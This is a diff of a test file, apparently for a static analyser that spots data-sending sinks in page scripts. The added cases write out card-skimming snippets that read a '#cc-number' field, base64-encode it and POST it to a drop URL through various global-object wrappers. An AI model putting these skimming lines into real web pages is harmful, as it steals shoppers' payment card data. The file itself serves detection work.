@@ -87,6 +87,29 @@ describe('jQuery through a renamed parameter', () => {
   })
 })
 
+describe('the global object as a wrapper picks it', () => {
+  const send = (g: string): string =>
+    `${g}.fetch('${DROP}', { method: 'POST', body: btoa(${g}.document.querySelector('#cc-number').value) })`
+  it.each([
+    [
+      'typeof window test',
+      `(function(g){${send('g')}})(typeof window !== 'undefined' ? window : this)`,
+    ],
+    ['typeof self test', `(function(g){${send('g')}})("undefined" != typeof self ? self : void 0)`],
+    ['window || global', `(function(g){${send('g')}})(window || global)`],
+    [
+      'a local alias',
+      `(function(){var g = typeof globalThis !== 'undefined' ? globalThis : null;${send('g')}})()`,
+    ],
+  ])('is the page in %s', (_how, source) => {
+    expect(factsOf(source).sinks.map((s) => [s.kind, s.urlText])).toEqual([['fetch', DROP]])
+  })
+  it('is not when a branch is some other object', () => {
+    const source = `(function(g){${send('g')}})(typeof window !== 'undefined' ? window : sandbox)`
+    expect(factsOf(source).sinks).toEqual([])
+  })
+})
+
 describe('values merged into an object by a helper', () => {
   // the sink carries `acc`; form values reach it only through the merge
   const send = (merge: string): string =>
